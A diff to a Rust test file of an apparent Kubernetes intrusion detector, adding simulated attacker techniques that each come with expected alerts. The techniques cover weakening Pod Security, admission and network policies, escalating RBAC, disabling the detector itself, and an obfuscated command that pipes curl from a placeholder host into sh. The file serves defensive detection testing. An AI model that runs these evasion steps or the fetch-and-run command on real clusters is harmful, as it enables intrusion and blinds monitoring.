@@ -4,7 +4,7 @@ use base64::prelude::{BASE64_STANDARD, Engine};
 use rcgen::{CertificateParams, DnType, KeyPair};
 use serde_json::json;
 
-use super::Scene;
+use super::{Scene, raw};
 
 pub struct Technique {
     pub name: &'static str,
@@ -226,6 +226,113 @@ pub fn detours() -> Vec<Technique> {
             name: "a kubelet's commands by a request without a body",
             act: |scene| { scene.intruder.run(&["get", "--raw", "/api/v1/nodes/https:node-1:/proxy/metrics/..%2Frun%2Fshop%2Fweb%2Fweb"]); },
             alerts: &[("kubelet-reached-through-api-server", "mallory https:node-1:")],
+        },
+        Technique {
+            name: "Pod Security moved to another label",
+            act: |scene| {
+                run(scene, &["label", "namespace", "den", "--overwrite", "pod-security.kubernetes.io/enforce=restricted"]);
+                scene.send("PATCH", "/api/v1/namespaces/den", &[("Content-Type", raw::JSON_PATCH)],
+                    r#"[{"op": "move", "from": "/metadata/labels/pod-security.kubernetes.io~1enforce", "path": "/metadata/labels/x"}]"#);
+            },
+            alerts: &[("pod-security-lowered", "mallory den")],
+        },
+        Technique {
+            name: "a policy whose expressions are replaced by a merge patch",
+            act: |scene| {
+                let policy = |expression: &str| json!({
+                    "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy", "metadata": {"name": "few"},
+                    "spec": {
+                        "matchConstraints": {"resourceRules": [{"apiGroups": ["apps"], "apiVersions": ["v1"],
+                            "operations": ["CREATE"], "resources": ["deployments"]}]},
+                        "validations": [{"expression": expression}],
+                    },
+                });
+                scene.watched.apply(&policy("object.spec.replicas < 5").to_string()).unwrap();
+                run(scene, &["patch", "validatingadmissionpolicy", "few", "--type=merge", "-p", r#"{"spec": {"validations": [{"expression": "true"}]}}"#]);
+            },
+            alerts: &[("admission-control-weakened", "mallory validatingadmissionpolicies few")],
+        },
+        Technique {
+            name: "a network policy opened by a patch that does not say for whom",
+            act: |scene| {
+                let policy = |selector: serde_json::Value| json!({
+                    "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny", "namespace": "shop"},
+                    "spec": {"podSelector": selector, "policyTypes": ["Ingress", "Egress"]},
+                });
+                scene.watched.apply(&policy(json!({})).to_string()).unwrap();
+                run(scene, &["-n", "shop", "patch", "networkpolicy", "deny", "--type=merge", "-p",
+                    r#"{"spec": {"ingress": [{"from": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]}]}}"#]);
+            },
+            alerts: &[("network-policy-opened", "mallory shop")],
+        },
+        Technique {
+            name: "a role that collects all default roles",
+            act: |scene| apply(scene, &json!({
+                "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "gatherer"}, "rules": [],
+                "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"kubernetes.io/bootstrapping": "rbac-defaults"}}]},
+            })),
+            alerts: &[("role-with-wildcards-written", "mallory gatherer")],
+        },
+        Technique {
+            name: "a pod bound to a node as a scheduler does",
+            act: |scene| {
+                apply(scene, &pod("bound", json!({"containers": [{"name": "a", "image": "a"}]})));
+                apply(scene, &json!({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "bound", "namespace": "shop"},
+                    "target": {"kind": "Node", "name": "node-1"}}));
+            },
+            alerts: &[("pod-placed-without-scheduler", "mallory shop")],
+        },
+        Technique {
+            name: "kubewitness stopped by its scale, and by a selector of no node",
+            act: |scene| {
+                let workload = |kind: &str, name: &str| json!({
+                    "apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": "kubewitness"},
+                    "spec": {"selector": {"matchLabels": {"app": name}}, "template": {"metadata": {"labels": {"app": name}},
+                        "spec": {"containers": [{"name": "a", "image": "a"}]}}},
+                });
+                scene.watched.apply(&workload("StatefulSet", "kubewitness-controller").to_string()).unwrap();
+                scene.watched.apply(&workload("DaemonSet", "kubewitness-collector").to_string()).unwrap();
+                run(scene, &["-n", "kubewitness", "scale", "statefulset", "kubewitness-controller", "--replicas=0"]);
+                run(scene, &["-n", "kubewitness", "patch", "daemonset", "kubewitness-collector", "-p",
+                    r#"{"spec": {"template": {"spec": {"nodeSelector": {"no": "where"}}}}}"#]);
+            },
+            alerts: &[("detection-disturbed", "mallory statefulsets kubewitness-controller"), ("detection-disturbed", "mallory daemonsets kubewitness-collector")],
+        },
+        Technique {
+            name: "all config maps of a system namespace",
+            // kubectl deletes them one by one.
+            act: |scene| scene.send("DELETE", "/api/v1/namespaces/kube-public/configmaps", &[], ""),
+            alerts: &[("access-configuration-changed", "mallory kube-public/")],
+        },
+        Technique {
+            name: "a command that hides its words",
+            act: |scene| exec(scene, &["sh", "-c", "c\"\"url -s http://x/y | /???/sh"]),
+            alerts: &[("exec-fetches-or-opens-shell", "mallory shop/web")],
+        },
+        Technique {
+            name: "a container without what confines it",
+            act: |scene| apply(scene, &pod("loose", json!({"hostUsers": false, "containers": [{"name": "a", "image": "a", "securityContext": {"procMount": "Unmasked"}}]}))),
+            alerts: &[("container-confinement-loosened", "mallory shop")],
+        },
+        Technique {
+            name: "a patch of a binding whose answer is asked for without the binding",
+            act: |scene| {
+                run(scene, &["create", "clusterrolebinding", "few", "--clusterrole=view", "--user=nobody"]);
+                scene.send("PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/few",
+                    &[("Content-Type", raw::MERGE_PATCH), ("Accept", raw::AS_TABLE)],
+                    r#"{"subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "other"}]}"#);
+            },
+            alerts: &[("change-hidden-by-answer", "mallory")],
+        },
+        Technique {
+            name: "a service whose type is moved from elsewhere",
+            act: |scene| {
+                run(scene, &["-n", "kube-system", "create", "service", "clusterip", "inner", "--tcp=80:80"]);
+                scene.send("PATCH", "/api/v1/namespaces/kube-system/services/inner", &[("Content-Type", raw::JSON_PATCH)],
+                    r#"[{"op": "add", "path": "/metadata/annotations", "value": {"x": {"t": "NodePort"}}},
+                        {"op": "move", "from": "/metadata/annotations/x/t", "path": "/spec/type"}, {"op": "remove", "path": "/metadata/annotations"}]"#);
+            },
+            alerts: &[("system-service-exposed", "mallory")],
         },
     ]
 }
